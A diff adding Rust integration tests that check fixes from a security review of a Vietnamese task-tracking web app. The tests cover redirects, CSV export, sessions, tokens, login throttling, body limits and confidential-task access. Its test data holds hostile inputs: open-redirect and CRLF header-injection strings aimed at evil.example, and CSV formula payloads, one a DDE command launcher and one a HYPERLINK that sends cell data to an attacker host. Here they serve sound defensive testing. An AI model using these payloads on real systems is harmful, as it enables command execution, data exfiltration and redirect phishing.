@@ -1,0 +1,472 @@
+//! The findings of the security review, each as the request that showed it:
+//! open redirects, formula injection, sessions that outlived their end, tokens
+//! made for others, sign-in throttling, body limits and file permissions.
+
+mod common;
+
+use common::{csrf_in, TestApp, WebClient, PASSWORD};
+use diesel::RunQueryDsl;
+use dondoc::domain::Role;
+
+/// A client that keeps no cookies: the cookie is sent by hand, as a copied one would be.
+fn bare() -> reqwest::Client {
+    reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .expect("client")
+}
+
+fn session_cookie(res: &reqwest::Response) -> Option<String> {
+    res.headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok())
+        .find(|v| v.starts_with("dondoc="))
+        .map(|v| v.split(';').next().unwrap_or("").to_string())
+}
+
+/// Signs in without a cookie jar; the session cookie (`dondoc=…`).
+async fn sign_in_cookie(app: &TestApp, email: &str, password: &str) -> String {
+    let client = bare();
+    let res = client.get(app.url("/login")).send().await.expect("login form");
+    let cookie = session_cookie(&res).expect("a session for the form");
+    let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
+    let res = client
+        .post(app.url("/login"))
+        .header("cookie", &cookie)
+        .header("user-agent", "TrinhDuyetThu/1.0")
+        .form(&[("csrf", csrf.as_str()), ("email", email), ("password", password), ("next", "/dashboard")])
+        .send()
+        .await
+        .expect("login");
+    assert_eq!(res.status().as_u16(), 303, "signed in");
+    session_cookie(&res).expect("a new session on sign-in")
+}
+
+/// GET with that cookie: the status and where it sends.
+async fn get_with(app: &TestApp, cookie: &str, path: &str) -> (u16, String) {
+    let res = bare().get(app.url(path)).header("cookie", cookie).send().await.expect("get");
+    let location = res.headers().get("location").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
+    (res.status().as_u16(), location)
+}
+
+fn user_id(app: &TestApp, role: Role) -> i64 {
+    let mut conn = app.db.conn().expect("conn");
+    dondoc::storage::users::by_email(&mut conn, &app.email_of(role)).expect("user").user.id
+}
+
+fn sql(app: &TestApp, query: &str) {
+    let mut conn = app.db.conn().expect("conn");
+    dondoc::storage::with_conn!(&mut *conn, c => diesel::sql_query(query).execute(c)).expect(query);
+}
+
+on_both_backends! {
+    async fn next_never_leaves_the_site(app) {
+        let web = WebClient::new(&app);
+        let csrf = web.csrf().await;
+        for bad in ["/\t/evil.example/", "//evil.example/", "/\\evil.example/", "/\r\nSet-Cookie: a=b", "https://evil.example/"] {
+            let (status, location, _) = web.post("/lang/vi", &[("csrf", csrf.as_str()), ("next", bad)]).await;
+            assert_eq!((status, location.as_deref()), (303, Some("/dashboard")), "{bad:?}");
+        }
+        // The query string decodes %09 and %0d%0a into the raw characters.
+        let (status, html) = web.get("/login?next=/%09/evil.example/").await;
+        assert_eq!(status, 200);
+        assert!(!html.contains("\t&#x2F;evil") && !html.contains("\t/evil"), "the form does not carry it");
+        let (status, _) = web.get("/login?next=/%0d%0aX:%20y").await;
+        assert_eq!(status, 200);
+        let email = app.email_of(Role::Official);
+        let (status, location, _) = web.post("/login", &[("csrf", csrf.as_str()), ("email", &email), ("password", PASSWORD), ("next", "/\t/evil.example/")]).await;
+        assert_eq!((status, location.as_deref()), (303, Some("/dashboard")));
+        let (status, location) = {
+            let res = web.client.get(format!("{}/login?next=/%09/evil.example/", web.base)).send().await.expect("get");
+            (res.status().as_u16(), res.headers().get("location").and_then(|v| v.to_str().ok()).map(str::to_string))
+        };
+        assert_eq!((status, location.as_deref()), (303, Some("/dashboard")), "signed in: straight home");
+        let csrf = web.csrf().await;
+        let (_, location, _) = web.post("/lang/en", &[("csrf", csrf.as_str()), ("next", "/tasks?status=overdue")]).await;
+        assert_eq!(location.as_deref(), Some("/tasks?status=overdue"), "a local path is kept");
+    }
+
+    async fn the_language_switch_changes_nothing_on_a_get(app) {
+        let web = app.web_as(Role::Unit).await;
+        let (status, _) = web.get("/lang/en?next=/tasks").await;
+        assert_eq!(status, 404);
+        let mut conn = app.db.conn().expect("conn");
+        let user = dondoc::storage::users::by_email(&mut conn, &app.email_of(Role::Unit)).expect("user").user;
+        assert_eq!(user.language, "vi", "a link followed from elsewhere changes no stored data");
+    }
+
+    async fn csv_cells_never_run_as_formulas(app) {
+        app.add_units(&[("CMD", "=cmd|' /C calc'!A0", Some("TUHN"))]);
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
+        let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
+            .json(&serde_json::json!({"content": formula, "lead_unit": "CMD", "assigned_on": "2022-07-07", "deadline": "2022-12-31"}))
+            .send().await.expect("create");
+        assert_eq!(res.status().as_u16(), 201);
+        let web = app.web_as(Role::Leader).await;
+        for path in ["/dashboard/tasks.csv?period=2022-H2", "/dashboard/export.csv?period=2022-H2"] {
+            let (status, body) = web.get(path).await;
+            assert_eq!(status, 200, "{path}");
+            let mut reader = csv::ReaderBuilder::new().from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+            let mut cells = 0;
+            for record in reader.records() {
+                for cell in record.expect("row").iter() {
+                    assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{path}: {cell:?}");
+                    cells += 1;
+                }
+            }
+            assert!(cells > 0);
+            assert!(body.contains("'=cmd|"), "{path}: the unit's name is kept, as text");
+        }
+        let (_, body) = web.get("/dashboard/tasks.csv?period=2022-H2").await;
+        assert!(body.contains("'=HYPERLINK("), "the content is kept, as text");
+    }
+
+    async fn a_copied_cookie_dies_with_its_session(app) {
+        let email = app.email_of(Role::Official);
+        // Sign-out.
+        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
+        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 200);
+        let res = bare().get(app.url("/account")).header("cookie", &cookie).send().await.expect("account");
+        let csrf = csrf_in(&res.text().await.expect("html")).expect("csrf");
+        let res = bare().post(app.url("/logout")).header("cookie", &cookie).form(&[("csrf", csrf.as_str())]).send().await.expect("logout");
+        assert_eq!(res.status().as_u16(), 303);
+        let (status, location) = get_with(&app, &cookie, "/dashboard").await;
+        assert_eq!(status, 303, "the copy is signed out too");
+        assert!(location.starts_with("/login"), "{location}");
+
+        // A new password: every other session ends, this one goes on.
+        let stolen = sign_in_cookie(&app, &email, PASSWORD).await;
+        let web = app.web_as(Role::Official).await;
+        let csrf = web.csrf().await;
+        let (status, _, _) = web.post("/account/password", &[("csrf", csrf.as_str()), ("current", PASSWORD), ("new", "mat-khau-moi-9"), ("confirm", "mat-khau-moi-9")]).await;
+        assert_eq!(status, 303);
+        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "ended by the new password");
+        assert_eq!(web.get("/dashboard").await.0, 200, "the session that changed it goes on");
+
+        // Deactivated, then active again: the old cookie stays dead.
+        let stolen = sign_in_cookie(&app, &email, "mat-khau-moi-9").await;
+        let admin = app.web_as(Role::Admin).await;
+        let csrf = admin.csrf().await;
+        let id = user_id(&app, Role::Official);
+        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "official"), ("unit", "")]).await;
+        assert_eq!(status, 303);
+        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "official"), ("unit", ""), ("active", "1")]).await;
+        assert_eq!(status, 303);
+        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "deactivation ended it for good");
+
+        // A role change ends the sessions too.
+        let stolen = sign_in_cookie(&app, &email, "mat-khau-moi-9").await;
+        let (status, _, _) = admin.post(&format!("/admin/users/{id}"), &[("csrf", csrf.as_str()), ("role", "leader"), ("unit", ""), ("active", "1")]).await;
+        assert_eq!(status, 303);
+        assert_eq!(get_with(&app, &stolen, "/dashboard").await.0, 303, "a new role signs in again");
+    }
+
+    async fn sessions_end_when_idle_or_old(app) {
+        let email = app.email_of(Role::Leader);
+        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
+        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 200);
+        let idle = if app.backend == common::Backend::Sqlite {
+            "UPDATE sessions SET last_seen_at = datetime('now', '-121 minutes') WHERE user_id IS NOT NULL"
+        } else {
+            "UPDATE sessions SET last_seen_at = (now() at time zone 'utc') - interval '121 minutes' WHERE user_id IS NOT NULL"
+        };
+        sql(&app, idle);
+        let (status, location) = get_with(&app, &cookie, "/dashboard").await;
+        assert_eq!(status, 303);
+        assert!(location.contains("expired=1"), "the form says why: {location}");
+        // In use all along, it still ends twelve hours after sign-in.
+        let cookie = sign_in_cookie(&app, &email, PASSWORD).await;
+        let old = if app.backend == common::Backend::Sqlite {
+            "UPDATE sessions SET created_at = datetime('now', '-721 minutes') WHERE user_id IS NOT NULL"
+        } else {
+            "UPDATE sessions SET created_at = (now() at time zone 'utc') - interval '721 minutes' WHERE user_id IS NOT NULL"
+        };
+        sql(&app, old);
+        assert_eq!(get_with(&app, &cookie, "/dashboard").await.0, 303, "past the absolute lifetime");
+    }
+
+    async fn the_account_page_lists_and_ends_sessions(app) {
+        let email = app.email_of(Role::Unit);
+        let elsewhere = sign_in_cookie(&app, &email, PASSWORD).await;
+        let web = app.web_as(Role::Unit).await;
+        let (status, html) = web.get("/account").await;
+        assert_eq!(status, 200);
+        assert!(html.contains("TrinhDuyetThu") && html.contains("127.0.0.1"), "{html}");
+        assert!(html.contains("phiên này"), "this session is marked");
+        assert_eq!(html.matches("/account/sessions/").count(), 3, "two sessions to end, and all of them");
+        // Another user's session cannot be ended from here.
+        let other = sign_in_cookie(&app, &app.email_of(Role::Leader), PASSWORD).await;
+        let csrf = csrf_in(&html).expect("csrf");
+        let (status, _, _) = web.post("/account/sessions/nope/end", &[("csrf", csrf.as_str())]).await;
+        assert_eq!(status, 404);
+        let (status, _, _) = web.post("/account/sessions/end", &[("csrf", csrf.as_str())]).await;
+        assert_eq!(status, 303);
+        assert_eq!(get_with(&app, &elsewhere, "/dashboard").await.0, 303, "signed out everywhere");
+        assert_eq!(web.get("/dashboard").await.0, 303, "here too");
+        assert_eq!(get_with(&app, &other, "/dashboard").await.0, 200, "another user's session goes on");
+    }
+
+    async fn admins_cannot_make_tokens_for_others(app) {
+        let admin = app.web_as(Role::Admin).await;
+        let csrf = admin.csrf().await;
+        let (status, _, _) = admin.post("/admin/tokens", &[("csrf", csrf.as_str()), ("email", &app.email_of(Role::Official)), ("label", "x")]).await;
+        assert!(matches!(status, 404 | 405), "no such form: {status}");
+        let (_, html) = admin.get("/admin/tokens").await;
+        assert!(!html.contains("name=\"email\""), "no form to make one");
+        // An official makes their own: the audit log names them, and what it does is theirs.
+        let official = app.web_as(Role::Official).await;
+        let csrf = official.csrf().await;
+        let (status, _, body) = official.post("/account/tokens", &[("csrf", csrf.as_str()), ("label", "máy chủ báo cáo")]).await;
+        assert_eq!(status, 200);
+        let at = body.find("id=\"new-token\">").expect("token shown") + "id=\"new-token\">".len();
+        let token = body[at..at + body[at..].find('<').expect("end")].to_string();
+        let (_, audit) = admin.get("/admin/audit").await;
+        let official_email = app.email_of(Role::Official);
+        assert!(audit.contains(&official_email), "the maker is named");
+        // Another user cannot revoke it; the admin can.
+        let id = {
+            let mut conn = app.db.conn().expect("conn");
+            dondoc::storage::users::list_tokens(&mut conn).expect("tokens").into_iter().find(|t| t.label == "máy chủ báo cáo").expect("token").id
+        };
+        let unit = app.web_as(Role::Unit).await;
+        let csrf_unit = unit.csrf().await;
+        let (status, _, _) = unit.post(&format!("/account/tokens/{id}/revoke"), &[("csrf", csrf_unit.as_str())]).await;
+        assert_eq!(status, 404);
+        let res = app.client.get(app.url("/api/v1/units")).bearer_auth(&token).send().await.expect("api");
+        assert_eq!(res.status().as_u16(), 200);
+        let csrf = admin.csrf().await;
+        let (status, _, _) = admin.post(&format!("/admin/tokens/{id}/revoke"), &[("csrf", csrf.as_str())]).await;
+        assert_eq!(status, 303);
+        let res = app.client.get(app.url("/api/v1/units")).bearer_auth(&token).send().await.expect("api");
+        assert_eq!(res.status().as_u16(), 401);
+    }
+
+    async fn parallel_guesses_get_five_tries(app) {
+        let email = app.email_of(Role::Leader);
+        let web = WebClient::new(&app);
+        let csrf = web.csrf().await;
+        let mut tries = Vec::new();
+        for _ in 0..20 {
+            let client = web.client.clone();
+            let (url, csrf, email) = (format!("{}/login", web.base), csrf.clone(), email.clone());
+            tries.push(tokio::spawn(async move {
+                client.post(url).form(&[("csrf", csrf.as_str()), ("email", email.as_str()), ("password", "doan-bua")]).send().await.expect("login").status().as_u16()
+            }));
+        }
+        let mut checked = 0;
+        for t in tries {
+            let status = t.await.expect("task");
+            assert!(status == 401 || status == 429, "{status}");
+            checked += usize::from(status == 401);
+        }
+        assert_eq!(checked, 5, "only five passwords were checked");
+    }
+
+    async fn throttling_decays_and_spares_other_addresses(app) {
+        use dondoc::domain::throttle::keys;
+        use dondoc::storage::throttle::{attempt, succeeded};
+        let mut conn = app.db.conn().expect("conn");
+        let victim = "lanh-dao@example.vn";
+        for _ in 0..5 {
+            assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None);
+        }
+        assert!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt").is_some(), "the sixth from there waits");
+        // The owner, elsewhere, is not locked out by it.
+        assert_eq!(attempt(&mut conn, &keys(victim, "198.51.100.7")).expect("attempt"), None);
+        // Old failures drain away.
+        drop(conn);
+        let back = if app.backend == common::Backend::Sqlite {
+            "UPDATE login_buckets SET updated_at = datetime(updated_at, '-15 minutes')"
+        } else {
+            "UPDATE login_buckets SET updated_at = updated_at - interval '15 minutes'"
+        };
+        sql(&app, back);
+        let mut conn = app.db.conn().expect("conn");
+        assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None, "the wait passed");
+        // A success empties the account's and the pair's buckets.
+        for _ in 0..4 {
+            attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt");
+        }
+        let [account, pair, address] = keys(victim, "203.0.113.9");
+        succeeded(&mut conn, &[account.0, pair.0], &[address]).expect("success");
+        for _ in 0..5 {
+            assert_eq!(attempt(&mut conn, &keys(victim, "203.0.113.9")).expect("attempt"), None);
+        }
+        // An office behind one address: 60 colleagues' typos do not lock the 61st out.
+        for n in 0..60 {
+            assert_eq!(attempt(&mut conn, &keys(&format!("nv{n}@example.vn"), "192.0.2.1")).expect("attempt"), None);
+        }
+        assert_eq!(attempt(&mut conn, &keys("nv61@example.vn", "192.0.2.1")).expect("attempt"), None);
+    }
+
+    async fn a_huge_json_body_is_413(app) {
+        let big = format!("{{\"content\": \"{}\"}}", "x".repeat(20 * 1024 * 1024));
+        let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
+            .header("content-type", "application/json").body(big).send().await.expect("post");
+        assert_eq!(res.status().as_u16(), 413);
+        let body: serde_json::Value = res.json().await.expect("json");
+        assert_eq!(body["error"], "too_large");
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_database_file_is_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let app = TestApp::spawn(common::Backend::Sqlite).await;
+    let path = app.test_db.dir().join("dondoc.db");
+    let mode = std::fs::metadata(&path).expect("db file").permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600, "{path:?}");
+}
+
+/// The secret words of the confidential task and meeting of [`confidential_fixture`].
+const SECRET_TASK: &str = "Phương án nhân sự MẬT-4711";
+const SECRET_MEETING: &str = "Họp kín MẬT-4712";
+
+/// A confidential task led by VPTU (BTGTU does not take part), and a
+/// confidential meeting whose one task VPTU leads; their ids.
+async fn confidential_fixture(app: &TestApp) -> (i64, i64, i64) {
+    let res = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
+        .json(&serde_json::json!({"content": SECRET_TASK, "lead_unit": "VPTU", "assigned_on": "2022-07-07", "deadline": "2022-12-31", "confidential": true}))
+        .send().await.expect("create");
+    assert_eq!(res.status().as_u16(), 201);
+    let task: serde_json::Value = res.json().await.expect("json");
+    assert_eq!(task["confidential"], true);
+    let res = app.client.post(app.url("/api/v1/meetings")).bearer_auth(&app.tokens[&Role::Official])
+        .json(&serde_json::json!({"title": SECRET_MEETING, "held_on": "2022-07-07", "confidential": true,
+            "tasks": [{"content": format!("{SECRET_MEETING}: chuẩn bị"), "lead_unit": "VPTU", "deadline": "2022-12-31"}]}))
+        .send().await.expect("meeting");
+    assert_eq!(res.status().as_u16(), 201);
+    let meeting: serde_json::Value = res.json().await.expect("json");
+    assert_eq!(meeting["confidential"], true);
+    (
+        task["id"].as_i64().expect("id"),
+        meeting["id"].as_i64().expect("id"),
+        meeting["tasks"][0]["id"].as_i64().expect("id"),
+    )
+}
+
+fn concrete(pattern: &str, task: i64, meeting: i64) -> String {
+    let id = if pattern.starts_with("/meetings") { meeting } else { task };
+    pattern.replace("{id}", &id.to_string()).replace("{code}", "vi")
+}
+
+mod confidential {
+    use super::*;
+
+on_both_backends! {
+    async fn confidential_tasks_are_hidden_from_every_route_of_other_units(app) {
+        let (task, meeting, meeting_task) = confidential_fixture(&app).await;
+        let unit = app.web_as(Role::Unit).await; // BTGTU: no part in either
+        let admin = app.web_as(Role::Admin).await;
+        let mut walked = 0;
+        for (who, web, role) in [("unit", &unit, Role::Unit), ("admin", &admin, Role::Admin)] {
+            for (method, pattern, _) in dondoc::web::pages::PAGES {
+                if *method != "GET" {
+                    continue;
+                }
+                for extra in ["", "?period=2022-H2", "?q=MẬT"] {
+                    let path = format!("{}{extra}", concrete(pattern, task, meeting));
+                    let (status, html) = web.get(&path).await;
+                    assert!(status < 500, "{who} {path}: {status}");
+                    assert!(!html.contains(SECRET_TASK) && !html.contains(SECRET_MEETING), "{who} reads it on {path}");
+                    walked += 1;
+                }
+            }
+            for (method, pattern, _) in dondoc::web::api::ROUTES {
+                if *method != "GET" {
+                    continue;
+                }
+                for extra in ["", "?period=2022-H2", "?q=MẬT"] {
+                    let path = format!("/api/v1{}{extra}", concrete(pattern, task, meeting));
+                    let res = app.get(&path, role).send().await.expect("api");
+                    let status = res.status().as_u16();
+                    let body = res.text().await.unwrap_or_default();
+                    assert!(status < 500, "{who} {path}: {status}");
+                    assert!(!body.contains(SECRET_TASK) && !body.contains(SECRET_MEETING), "{who} reads it on {path}");
+                    walked += 1;
+                }
+            }
+            for path in [format!("/tasks/{task}"), format!("/tasks/{meeting_task}"), format!("/meetings/{meeting}")] {
+                assert_eq!(web.get(&path).await.0, 404, "{who} {path}");
+            }
+            for path in [format!("/api/v1/tasks/{task}"), format!("/api/v1/meetings/{meeting}")] {
+                assert_eq!(app.get(&path, role).send().await.expect("api").status().as_u16(), 404, "{who} {path}");
+            }
+        }
+        assert!(walked > 60);
+        // Those who may: officials, leaders, the lead unit's and a coordinator's users.
+        let official = app.web_as(Role::Official).await;
+        assert!(official.get(&format!("/tasks/{task}")).await.1.contains(SECRET_TASK));
+        assert!(official.get(&format!("/meetings/{meeting}")).await.1.contains(SECRET_MEETING));
+        let leader = app.web_as(Role::Leader).await;
+        assert!(leader.get("/tasks?q=MẬT").await.1.contains(SECRET_TASK));
+        let vptu = {
+            let mut conn = app.db.conn().expect("conn");
+            let email = "vptu@example.vn";
+            dondoc::storage::users::create(&mut conn, &dondoc::storage::users::NewUser {
+                email: email.into(), name: "Văn phòng".into(), role: Role::Unit, unit_code: Some("VPTU".into()),
+                password_hash: dondoc::auth::hash_password(PASSWORD),
+            }).expect("user");
+            let web = WebClient::new(&app);
+            web.sign_in(email, PASSWORD).await;
+            web
+        };
+        assert!(vptu.get(&format!("/tasks/{task}")).await.1.contains(SECRET_TASK), "the lead unit reads it");
+        assert!(vptu.get("/tasks").await.1.contains(SECRET_TASK));
+        assert!(vptu.get(&format!("/meetings/{meeting}")).await.1.contains(SECRET_MEETING));
+        // Made a coordinator, BTGTU reads the task (and only that one).
+        let res = app.client.patch(app.url(&format!("/api/v1/tasks/{task}"))).bearer_auth(&app.tokens[&Role::Official])
+            .json(&serde_json::json!({"version": 1, "coordinators": ["BTGTU"]})).send().await.expect("patch");
+        assert_eq!(res.status().as_u16(), 200);
+        assert!(unit.get(&format!("/tasks/{task}")).await.1.contains(SECRET_TASK));
+        assert_eq!(unit.get(&format!("/meetings/{meeting}")).await.0, 404);
+        // Not confidential any more: everyone reads it.
+        let res = app.client.patch(app.url(&format!("/api/v1/tasks/{task}"))).bearer_auth(&app.tokens[&Role::Official])
+            .json(&serde_json::json!({"version": 2, "confidential": false})).send().await.expect("patch");
+        assert_eq!(res.status().as_u16(), 200);
+        assert!(admin.get(&format!("/tasks/{task}")).await.1.contains(SECRET_TASK));
+    }
+
+    async fn confidential_tasks_stay_out_of_feeds_and_mails(app) {
+        let (task, _, _) = confidential_fixture(&app).await;
+        let mut conn = app.db.conn().expect("conn");
+        let vptu = dondoc::storage::units::by_code(&mut conn, "VPTU").expect("unit").id;
+        let secret = dondoc::storage::calendar::rotate_secret(&mut conn, vptu).expect("feed");
+        let day = chrono::NaiveDate::from_ymd_opt(2022, 12, 28).expect("date");
+        let snapshot = {
+            use dondoc::storage::reminders::ReminderQueries;
+            dondoc::storage::with_conn!(&mut *conn, c => c.load_snapshot(day)).expect("snapshot")
+        };
+        drop(conn);
+        let t = snapshot.tasks.iter().find(|t| t.id == task).expect("the task is reminded");
+        assert!(!t.content.contains(SECRET_TASK) && t.content.contains("đăng nhập"), "{}", t.content);
+        assert!(snapshot.tasks.iter().all(|t| !t.content.contains(SECRET_MEETING)), "nor the meeting's");
+        let body = app.client.get(app.url(&format!("/ics/{secret}.ics"))).send().await.expect("feed").text().await.expect("body");
+        assert!(body.starts_with("BEGIN:VCALENDAR"));
+        assert!(!body.contains("MẬT-47") && !body.contains(&format!("task-{task}@")), "{body}");
+    }
+
+    async fn a_scoped_leader_reads_only_their_scope(app) {
+        let (task, meeting, _) = confidential_fixture(&app).await;
+        let open = app.client.post(app.url("/api/v1/tasks")).bearer_auth(&app.tokens[&Role::Official])
+            .json(&serde_json::json!({"content": "Việc của Ban Tuyên giáo", "lead_unit": "BTGTU", "assigned_on": "2022-07-07"}))
+            .send().await.expect("create").json::<serde_json::Value>().await.expect("json")["id"].as_i64().expect("id");
+        {
+            let mut conn = app.db.conn().expect("conn");
+            dondoc::storage::report::set_user_scope(&mut conn, &app.email_of(Role::Leader), Some("BTGTU"), None).expect("scope");
+        }
+        let leader = app.web_as(Role::Leader).await;
+        assert_eq!(leader.get(&format!("/tasks/{task}")).await.0, 404, "out of scope");
+        assert_eq!(leader.get(&format!("/meetings/{meeting}")).await.0, 404);
+        assert_eq!(leader.get(&format!("/tasks/{open}")).await.0, 200);
+        let (_, html) = leader.get("/tasks").await;
+        assert!(html.contains("Việc của Ban Tuyên giáo") && !html.contains(SECRET_TASK));
+        let res = app.get(&format!("/api/v1/tasks/{task}"), Role::Leader).send().await.expect("api");
+        assert_eq!(res.status().as_u16(), 404);
+        let list: serde_json::Value = app.get("/api/v1/tasks", Role::Leader).send().await.expect("api").json().await.expect("json");
+        assert_eq!(list["total"], 1, "{list}");
+    }
+}
+}
